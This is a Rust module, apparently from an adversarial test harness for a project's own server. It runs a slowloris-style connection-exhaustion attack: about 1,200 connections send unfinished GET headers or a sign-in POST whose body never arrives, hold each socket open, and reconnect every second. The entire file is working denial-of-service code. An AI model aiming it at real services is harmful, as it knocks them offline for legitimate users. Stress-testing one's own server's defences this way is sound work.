use std::{convert::Infallible, io, time::Duration};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::foe::Foe;

/// More than an address may have.
const EACH: usize = 300;
const ADDRESSES: usize = 4;
/// Whoever was turned away comes again after this.
const PAUSE: Duration = Duration::from_secs(1);

/// A head without an end, and a body that does not come.
const BEGUN: [&str; 2] = [
    "GET /health HTTP/1.1\r\nHost: ten",
    "POST /api/sign-in HTTP/1.1\r\nHost: tengen\r\nContent-Type: application/json\r\nContent-Length: 999\r\n\r\n{",
];

pub(super) async fn attack(foe: Foe) {
    foe.times(EACH * ADDRESSES, begin).await;
}

async fn begin(foe: Foe, number: usize) {
    let begun = BEGUN[number / ADDRESSES % BEGUN.len()];
    loop {
        foe.tries(wait(&foe, number % ADDRESSES, begun)).await;
        tokio::time::sleep(PAUSE).await;
    }
}

/// Begins a request and waits until the server has had enough of it.
async fn wait(foe: &Foe, address: usize, begun: &str) -> io::Result<Infallible> {
    let mut line = foe.line(address).await?;
    line.write_all(begun.as_bytes()).await?;
    let mut said = Vec::new();
    line.read_to_end(&mut said).await?;
    Err(io::ErrorKind::ConnectionAborted.into())
}
